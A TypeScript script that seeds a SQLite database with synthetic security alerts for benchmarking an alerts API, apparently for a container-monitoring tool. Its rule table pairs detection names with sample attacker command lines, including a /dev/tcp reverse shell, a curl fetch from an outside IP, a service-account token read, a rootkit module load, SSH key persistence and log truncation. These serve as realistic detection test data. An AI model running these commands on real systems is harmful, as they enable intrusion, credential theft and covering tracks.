/**
 * Seeds a fresh Keelwatch SQLite database with N alerts for the alerts API
 * benchmark, straight through better-sqlite3: the app's migrations make the
 * schema, then rules, users, uploads, events, alerts and their alert↔event
 * links go in with prepared statements in large transactions. Going through
 * Prisma would take an hour for 1M alerts; this takes about a minute.
 *
 * The rows look like a busy cluster's: a few noisy rules carry most alerts
 * (Zipf-like), containers and hosts are skewed the same way, most alerts are
 * still open, some are acknowledged or closed with a reason, a third are
 * assigned, and times spread over the last 30 days with a daily rhythm.
 * Values are stored the way Prisma's SQLite adapter writes them (ISO times
 * with "+00:00", booleans as 0/1), so the server reads them as its own.
 */
import { createHash } from "node:crypto";
import Database from "better-sqlite3";
import { hashPassword } from "../lib/auth/passwords";
import { convertLegacyBatch } from "../lib/db/events/maintenance.mjs";
import { applyMigrations } from "../lib/db/migrate";
import { Prng } from "./prng";

export const SEED_ADMIN_USERNAME = "admin";
const DAY_MS = 86_400_000;
const SPAN_DAYS = 30;
const ROWS_PER_TRANSACTION = 50_000;
const ALERTS_PER_UPLOAD = 10_000;

const SEVERITY_RANK = { low: 1, medium: 2, high: 3, critical: 4 } as const;
type Severity = keyof typeof SEVERITY_RANK;

export interface SeedRule {
  id: string;
  name: string;
  severity: Severity;
  riskScore: number;
  process: string;
  executable: string;
  commandLine: string;
}

const RULE_SHAPES: readonly [string, Severity, number, string, string][] = [
  ["Network tool executed in a container", "medium", 47, "nc", "/usr/bin/nc -lvp 4444"],
  ["Interactive shell in a container", "medium", 47, "bash", "/bin/bash -i"],
  ["Binary executed from a writable directory", "high", 73, "xmrig", "/tmp/xmrig --donate-level 1"],
  ["Package manager run in a running container", "low", 21, "apt-get", "/usr/bin/apt-get install -y curl"],
  ["Kubernetes service account token read", "high", 73, "cat", "/bin/cat /var/run/secrets/kubernetes.io/token"],
  ["Reverse shell via /dev/tcp", "critical", 99, "bash", "/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'"],
  ["Container escape via nsenter", "critical", 99, "nsenter", "/usr/bin/nsenter -t 1 -m -u -i -n sh"],
  ["Suspicious curl piped to shell", "high", 73, "curl", "/usr/bin/curl -s http://198.51.100.7/x.sh"],
  ["Credential file accessed", "medium", 47, "grep", "/bin/grep -r password /etc"],
  ["Kernel module loaded from a container", "critical", 99, "insmod", "/sbin/insmod /tmp/rootkit.ko"],
  ["Cron job modified in a container", "medium", 47, "crontab", "/usr/bin/crontab -l"],
  ["SSH key added to authorized_keys", "high", 73, "tee", "/usr/bin/tee -a /root/.ssh/authorized_keys"],
  ["Process hollowing via memfd", "high", 73, "memfd", "/proc/self/fd/3"],
  ["Cloud metadata endpoint queried", "medium", 47, "wget", "/usr/bin/wget -qO- http://169.254.169.254/latest"],
  ["Privilege escalation with setuid binary", "high", 73, "su", "/bin/su root"],
  ["Web server spawned a shell", "high", 73, "sh", "/bin/sh -c id"],
  ["Log file truncated", "low", 21, "truncate", "/usr/bin/truncate -s 0 /var/log/auth.log"],
  ["Unexpected outbound DNS tool", "low", 21, "dig", "/usr/bin/dig txt exfil.example.net"],
  ["Crypto miner process name", "critical", 99, "kworkerds", "/tmp/.x/kworkerds"],
  ["Debugger attached to a process", "medium", 47, "gdb", "/usr/bin/gdb -p 1"],
];

export const SEED_RULES: readonly SeedRule[] = RULE_SHAPES.map(([name, severity, riskScore, process, line], i) => ({
  id: `bench-rule-${String(i + 1).padStart(2, "0")}`,
  name,
  severity,
  riskScore,
  process,
  executable: line.split(" ")[0] ?? line,
  commandLine: line,
}));

export const SEED_ANALYSTS = ["alice", "bob", "carol", "dave", "erin"] as const;
const IMAGES = ["nginx", "redis", "postgres", "node", "python", "envoy", "coredns", "grafana", "kafka", "busybox"];
const NAMESPACES = ["default", "payments", "web", "data", "kube-system", "monitoring"];
const USERS = ["root", "www-data", "app", "nobody", "postgres"];

/**
 * Picks indexes 0..n-1 with weight 1/(i+1)^s: a few values common, a long tail
 * rare, as alert sources are in practice.
 */
export class SkewedPicker {
  private readonly cumulative: number[];
  constructor(
    readonly size: number,
    exponent = 1,
  ) {
    if (size < 1) throw new Error("SkewedPicker needs at least one value");
    let total = 0;
    this.cumulative = Array.from({ length: size }, (_, i) => {
      total += 1 / (i + 1) ** exponent;
      return total;
    });
  }
  pick(prng: Prng): number {
    const last = this.cumulative[this.size - 1] as number;
    const target = prng.next() * last;
    let low = 0;
    let high = this.size - 1;
    while (low < high) {
      const mid = (low + high) >> 1;
      if ((this.cumulative[mid] as number) <= target) low = mid + 1;
      else high = mid;
    }
    return low;
  }
}

export interface SeedOptions {
  alerts: number;
  /** Password of the "admin" user, who can sign in to the seeded database. */
  adminPassword: string;
  /** The newest alert's time; alerts spread over the 30 days before it. */
  now?: number;
  seed?: number;
  containers?: number;
  hosts?: number;
  /** Called after each transaction with the alerts written so far. */
  onProgress?: (written: number) => void;
}

export interface SeedCounts {
  alerts: number;
  events: number;
  alertEvents: number;
  uploads: number;
  rules: number;
  users: number;
}

function iso(ms: number): string {
  return new Date(ms).toISOString().replace("Z", "+00:00");
}

/** Ids that sort like cuids (time-ish prefix, then a counter) and never collide within a run. */
function benchId(prefix: string, n: number): string {
  return `${prefix}${n.toString(36).padStart(8, "0")}`;
}

/** A time in the window, denser in working hours (UTC 08-18), like alerts from real workloads. */
function alertTime(prng: Prng, now: number): number {
  const day = Math.floor(prng.next() * SPAN_DAYS);
  const hour = prng.chance(0.65) ? 8 + prng.next() * 10 : prng.next() * 24;
  const at = now - (day + 1) * DAY_MS + Math.floor(hour * 3_600_000);
  return Math.min(at, now - 1);
}

interface IndexSql {
  name: string;
  sql: string;
}

/**
 * Secondary indexes of the bulk-loaded tables. They are dropped for the load
 * and rebuilt after, which SQLite does by sorting once instead of updating a
 * dozen B-trees per row; the end state is the schema the migrations made.
 */
function bulkTableIndexes(db: Database.Database): IndexSql[] {
  return db
    .prepare(
      `SELECT name, sql FROM sqlite_master WHERE type = 'index' AND sql IS NOT NULL
       AND tbl_name IN ('Alert', 'Event', 'AlertEvent')`,
    )
    .all() as IndexSql[];
}

/** Writes the seed into `file` (which must not hold a Keelwatch database yet). */
export async function seedAlertsDatabase(file: string, options: SeedOptions): Promise<SeedCounts> {
  if (!Number.isSafeInteger(options.alerts) || options.alerts < 0) {
    throw new Error(`seedAlertsDatabase: alerts must be a whole number ≥ 0, not ${options.alerts}`);
  }
  applyMigrations(file);
  const adminHash = await hashPassword(options.adminPassword);
  const db = new Database(file);
  try {
    const existing = db.prepare(`SELECT COUNT(*) AS n FROM "Alert"`).get() as { n: number };
    if (existing.n > 0) throw new Error(`seedAlertsDatabase: ${file} already holds ${existing.n} alerts`);
    // Throw-away database: durability during the load buys nothing.
    db.pragma("journal_mode = OFF");
    db.pragma("synchronous = OFF");
    db.pragma("cache_size = -262144");
    const counts = writeRows(db, adminHash, options);
    db.pragma("journal_mode = WAL");
    return counts;
  } finally {
    db.close();
  }
}

function writeRows(db: Database.Database, adminHash: string, options: SeedOptions): SeedCounts {
  const prng = new Prng(options.seed ?? 0x616c);
  const now = options.now ?? Date.now();
  const containerCount = options.containers ?? 400;
  const hostCount = options.hosts ?? 40;
  const created = iso(now - (SPAN_DAYS + 1) * DAY_MS);

  const insertUser = db.prepare(
    `INSERT INTO "User" (id, username, displayName, role, passwordHash, createdAt, updatedAt)
     VALUES (?, ?, ?, ?, ?, ?, ?)`,
  );
  const insertRule = db.prepare(
    `INSERT INTO "Rule" (id, name, description, query, severity, riskScore, origin, createdAt, updatedAt)
     VALUES (?, ?, ?, ?, ?, ?, 'custom', ?, ?)`,
  );
  const insertUpload = db.prepare(
    `INSERT INTO "Upload" (id, fileName, format, status, eventsReceived, eventsAccepted, alertsCreated, createdAt, finishedAt)
     VALUES (?, ?, 'ecs', 'done', ?, ?, ?, ?, ?)`,
  );
  const insertEvent = db.prepare(
    `INSERT INTO "Event" (id, uploadId, line, contentHash, timestamp, category, type, action, containerId, hostName,
       entityId, parentEntityId, processName, processExecutable, document)
     VALUES (?, ?, ?, ?, ?, 'process', 'start', 'exec', ?, ?, ?, ?, ?, ?, ?)`,
  );
  const insertAlert = db.prepare(
    `INSERT INTO "Alert" (id, ruleId, ruleName, severity, severityRank, riskScore, status, closingReason, assigneeId,
       dedupKey, timestamp, createdAt, updatedAt, acknowledgedAt, closedAt, version, containerId, containerName,
       imageName, hostName, processName, processExecutable, commandLine, userName, entityId, entryLeaderEntityId,
       sessionLeaderEntityId, uploadId)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  );
  const insertLink = db.prepare(`INSERT INTO "AlertEvent" (alertId, position, eventId) VALUES (?, 0, ?)`);

  const analystIds = SEED_ANALYSTS.map((name) => `bench-user-${name}`);
  db.transaction(() => {
    insertUser.run("bench-user-admin", SEED_ADMIN_USERNAME, "Administrator", "admin", adminHash, created, created);
    for (const [i, name] of SEED_ANALYSTS.entries()) {
      // Analysts exist to be assignees; their hash matches no password.
      insertUser.run(analystIds[i], name, name[0]?.toUpperCase() + name.slice(1), "analyst", "!", created, created);
    }
    for (const rule of SEED_RULES) {
      insertRule.run(
        rule.id,
        rule.name,
        `Benchmark rule: ${rule.name}.`,
        `process where process.name == "${rule.process}"`,
        rule.severity,
        rule.riskScore,
        created,
        created,
      );
    }
  })();

  const containers = Array.from({ length: containerCount }, (_, i) => {
    const image = IMAGES[i % IMAGES.length] as string;
    return {
      id: createHash("sha256").update(`container-${i}`).digest("hex"),
      name: `${image}-${i}`,
      image,
      host: `node-${String(i % hostCount).padStart(3, "0")}`,
      namespace: NAMESPACES[i % NAMESPACES.length] as string,
    };
  });
  const rulePicker = new SkewedPicker(SEED_RULES.length, 1.1);
  const containerPicker = new SkewedPicker(containerCount, 0.9);

  const indexes = bulkTableIndexes(db);
  for (const index of indexes) db.exec(`DROP INDEX "${index.name}"`);

  const uploads = Math.ceil(options.alerts / ALERTS_PER_UPLOAD);
  let written = 0;
  while (written < options.alerts) {
    const end = Math.min(options.alerts, written + ROWS_PER_TRANSACTION);
    db.transaction(() => {
      for (let n = written; n < end; n++) {
        const uploadIndex = Math.floor(n / ALERTS_PER_UPLOAD);
        const uploadId = benchId("bu", uploadIndex);
        if (n % ALERTS_PER_UPLOAD === 0) {
          const inUpload = Math.min(ALERTS_PER_UPLOAD, options.alerts - n);
          const at = iso(now - (uploads - uploadIndex) * 3_600_000);
          insertUpload.run(uploadId, `bench-${uploadIndex}.ndjson`, inUpload, inUpload, inUpload, at, at);
        }
        const rule = SEED_RULES[rulePicker.pick(prng)] as SeedRule;
        const container = containers[containerPicker.pick(prng)] as (typeof containers)[number];
        const time = alertTime(prng, now);
        const user = prng.pick(USERS);
        const entityId = prng.hex(24);
        const leaderId = `${container.id.slice(0, 12)}-leader`;
        const eventId = n + 1;
        const document = JSON.stringify({
          "@timestamp": new Date(time).toISOString(),
          event: { category: ["process"], type: ["start"], action: "exec" },
          host: { name: container.host },
          container: { id: container.id, name: container.name, image: { name: container.image, tag: "latest" } },
          orchestrator: { namespace: container.namespace },
          process: {
            entity_id: entityId,
            name: rule.process,
            executable: rule.executable,
            command_line: rule.commandLine,
            args: rule.commandLine.split(" "),
            parent: { entity_id: leaderId },
            entry_leader: { entity_id: leaderId },
          },
          user: { name: user },
        });
        insertEvent.run(
          eventId,
          uploadId,
          (n % ALERTS_PER_UPLOAD) + 1,
          createHash("sha256").update(document).digest("hex"),
          iso(time),
          container.id,
          container.host,
          entityId,
          leaderId,
          rule.process,
          rule.executable,
          document,
        );

        const roll = prng.next();
        const status = roll < 0.7 ? "open" : roll < 0.82 ? "acknowledged" : "closed";
        const acknowledgedAt = status === "open" ? null : iso(Math.min(now, time + prng.int(60_000, 4 * 3_600_000)));
        const closedAt = status === "closed" ? iso(Math.min(now, time + prng.int(3_600_000, 2 * DAY_MS))) : null;
        const closingReason =
          status === "closed" ? prng.pick(["true_positive", "false_positive", "benign", "duplicate"]) : null;
        const assigneeId = status !== "open" || prng.chance(0.2) ? prng.pick(analystIds) : null;
        const alertId = benchId("ba", n);
        insertAlert.run(
          alertId,
          rule.id,
          rule.name,
          rule.severity,
          SEVERITY_RANK[rule.severity],
          rule.riskScore,
          status,
          closingReason,
          assigneeId,
          `${rule.id}:${eventId}`,
          iso(time),
          iso(time),
          closedAt ?? acknowledgedAt ?? iso(time),
          acknowledgedAt,
          closedAt,
          status === "open" ? 1 : status === "acknowledged" ? 2 : 3,
          container.id,
          container.name,
          container.image,
          container.host,
          rule.process,
          rule.executable,
          rule.commandLine,
          user,
          entityId,
          leaderId,
          leaderId,
          uploadId,
        );
        insertLink.run(alertId, eventId);
      }
    })();
    written = end;
    options.onProgress?.(written);
  }

  for (const index of indexes) db.exec(index.sql);
  // Stored as the server stores them: the documents in compressed event blocks (lib/db/events), here by the
  // same conversion an upgraded database goes through.
  for (let after = 0; ; ) {
    const batch = convertLegacyBatch(db, after, 2_000);
    if (batch.converted === 0) break;
    after = batch.lastId;
  }
  return {
    alerts: options.alerts,
    events: options.alerts,
    alertEvents: options.alerts,
    uploads,
    rules: SEED_RULES.length,
    users: SEED_ANALYSTS.length + 1,
  };
}
